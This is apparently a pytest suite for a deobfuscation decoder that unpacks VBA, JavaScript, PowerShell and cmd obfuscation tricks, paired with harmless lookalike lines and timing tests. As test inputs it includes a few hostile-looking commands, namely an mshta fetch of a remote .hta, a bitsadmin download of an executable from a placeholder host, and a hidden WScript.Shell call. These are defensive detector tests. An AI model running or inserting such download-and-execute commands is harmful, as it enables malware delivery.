"""Obfuscation on its face: a layer even when the text it hides is harmless.

A word written letter by letter as codes, a concatenation that cuts words in two, a literal
reversed or XORed with a constant: ordinary code does none of these, so they are undone
whatever they hide. Each technique has traps beside it: the same syntax as people write it.
"""

from __future__ import annotations

import base64

import pytest

from asisdk.decode import unpack

from .builders import check_offsets


def shown(text: str) -> list[tuple[str, str | None]]:
    result = unpack(text)
    check_offsets(text, result)
    return [(layer.encoding, layer.text) for layer in result.layers]


# -- letters written as codes ------------------------------------------------------------------


def test_numeric_entities_spelling_an_attribute_value() -> None:
    # Office relationship files hide TargetMode="External" from naive greps this way.
    line = '<Relationship Id="rId9" TargetMode="&#x45;&#x78;&#x74;&#x65;&#x72;&#x6e;&#x61;&#x6c;"/>'
    assert ("html_entity", "External") in shown(line)


def test_decimal_entities_spelling_a_word() -> None:
    assert shown("<b>&#83;&#97;&#108;&#101;&#115;</b>") == [("html_entity", "Sales")]


def test_vba_chr_calls_spelling_a_word() -> None:
    line = "Sheets(1).Name = Chr(66) & Chr(117) & Chr(100) & Chr(103) & Chr(101) & Chr(116)"
    # A run of Chr calls alone is a character-code list.
    assert shown(line) == [("charcode", "Budget")]


def test_chr_calls_side_by_side_and_lower_case() -> None:
    assert shown("x = chrw(83)chrw(104)chrw(101)chrw(101)chrw(116)") == [("vba_chr", "Sheet")]
    assert shown('x = Chr(80) & "ivot" & Chr(84) & Chr(97) & Chr(98) & Chr(108) & Chr(101)') == [
        ("vba_chr", "PivotTable")
    ]


def test_fromcharcode_spelling_a_word() -> None:
    assert shown("var k = String.fromCharCode(115,101,99,114,101,116);") == [
        ("js_charcode", "secret")
    ]


def test_percent_encoded_letters_in_a_url() -> None:
    line = "https://cdn.example.net/%64%6f%63%73/report.pdf"
    assert [encoding for encoding, _ in shown(line)] == ["percent"]
    assert "docs/report.pdf" in (shown(line)[0][1] or "")


def test_unescape_call_on_a_mostly_escaped_literal() -> None:
    line = "document.title = unescape('Quarterly%20sales%20figures%20for%20the%20team');"
    assert shown(line) == [("js_unescape", "Quarterly sales figures for the team")]


# -- concatenation that cuts words -----------------------------------------------------------


def test_powershell_concatenation_cutting_words() -> None:
    assert shown("$t = 'Quar'+'terly'+' rep'+'ort'") == [("ps_concat", "Quarterly report")]


def test_javascript_concatenation_with_escaped_quotes() -> None:
    line = 'msg = "the \\"quar"+"terly\\" report";'
    assert shown(line) == [("js_concat", 'the "quarterly" report')]


def test_vb_ampersand_concatenation_cutting_words() -> None:
    line = 'sName = "Wor" & "kbo" & "ok1"'
    assert shown(line) == [("vba_concat", "Workbook1")]


def test_autoit_mixed_quotes_concatenation() -> None:
    line = "$s = 'Scri' & \"pting\" & 'Dict' & \"ionary\""
    assert shown(line) == [("vba_concat", "ScriptingDictionary")]


def test_office_xml_formula_with_escaped_ampersands() -> None:
    line = '<f>"Cal"&amp;"cu"&amp;"lat"&amp;"ion"</f>'
    assert shown(line) == [("vba_concat", "Calculation")]


# -- reversed literals ---------------------------------------------------------------------------


def test_vba_strreverse_of_a_literal() -> None:
    assert shown('Set sh = CreateObject(StrReverse("llehS.tpircSW"))') == [
        ("vba_reverse", "WScript.Shell")
    ]
    # Harmless text reversed is still a reversed literal.
    assert shown('sName = StrReverse("tropeR ylhtnoM")') == [("vba_reverse", "Monthly Report")]


def test_vbnet_reverse_call_of_a_literal() -> None:
    assert shown('Dim s = Reverse("txt.setoN")') == [("vba_reverse", "Notes.txt")]


def test_javascript_split_reverse_join() -> None:
    line = 'var host = "ten.elpmaxe.ndc".split("").reverse().join("");'
    assert shown(line) == [("js_reverse", "cdn.example.net")]
    assert shown("t = 'tropeR'.split('').reverse().join('')") == [("js_reverse", "Report")]


# -- junk cut out of words -------------------------------------------------------------------------


def test_vba_replace_function_cutting_junk() -> None:
    assert shown('s = Replace("WoQQrkbQQook", "QQ", "")') == [("vba_replace", "Workbook")]
    assert shown('s = Replace("PoZwerZShZell", "Z", "", 1, -1, vbTextCompare)') == [
        ("vba_replace", "PowerShell")
    ]


def test_javascript_replace_with_a_regex_literal() -> None:
    assert shown('var w = "doXYcuXYment".replace(/XY/g, "");') == [("ps_replace", "document")]
    # Without ``g`` JavaScript replaces the first match only.
    assert shown("k = 'Rep_Qort'.replace(/_Q/, '')") == [("ps_replace", "Report")]


def test_powershell_replace_cutting_junk_from_a_harmless_word() -> None:
    assert shown("$n = 'Quar#!terly'.Replace('#!','')") == []  # junk without a letter
    assert shown("$n = 'QuarZZterly'.Replace('ZZ','')") == [("ps_replace", "Quarterly")]


# -- a constant XOR -----------------------------------------------------------------------------


def test_bxor_of_base64_or_hex_without_the_convert_prefix() -> None:
    # 'Monthly' XOR 0x23, as base64 and as hex, the key on the next line.
    data = bytes(byte ^ 0x23 for byte in b"Monthly")
    b64 = base64.b64encode(data).decode()
    assert ("ps_bxor", "Monthly") in shown(f"$b = FromBase64String('{b64}')\n-bxor 35")
    assert ("ps_bxor", "Monthly") in shown(
        f"$b = [Convert]::FromHexString('{data.hex()}') -bxor 0x23"
    )


# -- cmd carets -------------------------------------------------------------------------------


def test_carets_cutting_a_harmless_command() -> None:
    assert shown("cmd /c t^ype C:\\logs\\a^pp.log") == [
        ("cmd_caret", "cmd /c type C:\\logs\\app.log")
    ]


def test_caret_stretch_shows_the_cmd_that_runs_it() -> None:
    line = (
        '=EXEC("C:\\Windows\\System32\\cmd.exe /v:on /c m^sh^ta h^tt^ps://cdn.example.net/p.hta")'
    )
    assert shown(line) == [("cmd_caret", "cmd.exe /v:on /c mshta https://cdn.example.net/p.hta")]


def test_caret_line_continuation_inside_a_word() -> None:
    # A batch file: a caret at the end of a line joins the next line to the word.
    assert shown(
        "@echo off\r\nbits^\r\nadmin /transfer j /download https://x.example/a.exe a.exe"
    ) == [("cmd_caret", "bitsadmin")]
    assert shown("ping -n 1 loc^\nalhost") == [("cmd_caret", "localhost")]


# -- cmd variables spelling commands -------------------------------------------------------------


def test_set_spelled_by_a_delayed_variable_is_followed() -> None:
    # The set command itself comes out of a variable (!s! is "set"); its values then spell
    # the command one character at a time.
    line = (
        'cmd /v /c "set "k=abcdefghijklmnopqrstuvwxyz" && call set "s=!k:~18,1!et" '
        '&& !s! "a=n" && !s! "b=o" && !s! "c=t" && !s! "d=e" && !s! "e=p" && !s! "f=a" '
        '&& !s! "g=d" && !a!!b!!c!!d!!e!!f!!g! C:\\Users\\Public\\x.txt"'
    )
    ((encoding, text),) = shown(line)
    assert encoding == "cmd_var"
    assert text is not None
    assert text.endswith('notepad C:\\Users\\Public\\x.txt"')


def test_one_character_variables_spelling_a_harmless_word() -> None:
    line = "set p=t&& set q=y&& set r=p&& set s=e&& %p%%q%%r%%s% report.txt"
    assert shown(line) == [("cmd_var", "type")]


# -- traps -------------------------------------------------------------------------------------

HARMLESS = [
    # a code or three is a constant, not a word
    'MsgBox "Total:" & Chr(9) & "42" & Chr(13) & Chr(10)',
    "String.fromCharCode(0x41, 0x42)",
    "Copyright &#169; 2024 &#8212; all rights reserved",
    "a &lt; b &amp;&amp; c &gt; d",
    # ordinary URL escapes
    "https://example.com/search?q=annual%20report%202024&lang=en",
    "decodeURIComponent('na%C3%AFve')",
    "unescape('a%20b')",
    # wrapping a long string between words, or joining file name parts
    "$msg = 'The operation completed ' + 'successfully.'",
    '$file = "backup" + "_" + "2024" + ".zip"',
    '$s = "a" + "b"',
    'msg = "Hello, " + "world"',
    'sText = "First line" & vbCrLf & "Second line"',
    'sPath = "C:\\Data\\" & "report.xlsx"',
    # cmd chains quoted commands with &
    'cmd /c "C:\\Tools\\a.exe" & "C:\\Tools\\b.exe" & "C:\\Tools\\c.exe"',
    'echo "done" & echo "next"',
    '"C:\\a\\setup.bat" & "C:\\b\\run.bat" & "x.bat" & "y.bat"',
    "x = \"it's\" & ' here'",
    # reversal and replacement as ordinary code writes them
    "sOut = StrReverse(sIn)",
    'x = StrReverse("abba")',
    "items.Reverse()",
    'var r = name.split("").reverse().join("");',
    "arr.reverse().join(', ')",
    's = Replace("a,b,c", ",", ";")',
    's = Replace("Dear NAME", "NAME", "Anna")',
    's = Replace(sPath, "\\", "/")',
    's = Replace("C:\\Temp\\notes.txt", ".txt", "")',
    'out = "a-b-c".replace(/-/g, "")',
    "t = s.replace(/\\s+/g, ' ')",
    "$x = [Convert]::FromHexString('00ff00ff')",
    # carets that escape cmd's special characters, and continuation between arguments
    "echo ^<b^>bold^</b^> ^& more",
    'findstr /r "^[0-9]" data.txt ^| sort',
    "robocopy C:\\src D:\\dst ^\r\n  /MIR /R:1",
    # variables as batch files use them
    "set n=1&& echo %n% %n% %n% %n%",
    "set v=2&& copy log%v%.txt C:\\bak\\log%v%.txt",
    "set DIR=C:\\build&& cd %DIR% && call %DIR%\\make.bat && del %DIR%\\*.tmp",
]


@pytest.mark.parametrize("line", HARMLESS)
def test_ordinary_text_stays_clean(line: str) -> None:
    result = unpack(line)
    assert result.layers == (), [(layer.encoding, layer.text) for layer in result.layers]
    assert result.text == line


# -- bounded on hostile input -------------------------------------------------------------------

MB = 1_000_000
ADVERSARIAL = {
    "vb_ampersands": '"ab" & ' * (MB // 7),
    "vb_quotes_then_amp": '"' * MB + ' & "',
    "vb_doubled_quotes": '"' + '""' * (MB // 2) + ' & "x"',
    "xml_amps": '"a"&amp;' * (MB // 8),
    "chr_side_by_side": "chr(65)" * (MB // 7),
    "js_backslashes": '"' + "\\" * MB + '" + "x\\""',
    "js_escaped_quotes": '"\\"' * (MB // 3) + ' + "a"',
    "strreverse_calls": 'StrReverse("' * (MB // 12),
    "strreverse_unclosed": 'StrReverse("' + "a" * MB,
    "vb_replace_calls": 'Replace("a", "' * (MB // 14),
    "js_reverse_tails": '.split("").reverse().join("")' * (MB // 29),
    "js_reverse_after_quotes": '"' * MB + '.split("").reverse().join("")',
    "js_regex_replace": "'a'.replace(/" + "a" * MB,
    "caret_continuations": "a^\n" * (MB // 3),
    "cmd_before_carets": "cmd /c /c /c a^b " * (MB // 17),
    "set_value_used_over_and_over": "set a=" + "x" * 1000 + "&& " + "%a%" * (MB // 3),
    "spelled_sets": "set s=set&& " + '!s! "a=b" && ' * (MB // 14),
    "bxor_hex_calls": "FromHexString('41') -bxor 1 " * (MB // 28),
}


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_adversarial_megabyte_is_bounded(name: str) -> None:
    import time

    text = ADVERSARIAL[name]
    started = time.perf_counter()
    unpack(text)
    # Linear scans take about a second here; catastrophic backtracking would take hours.
    assert time.perf_counter() - started < 30
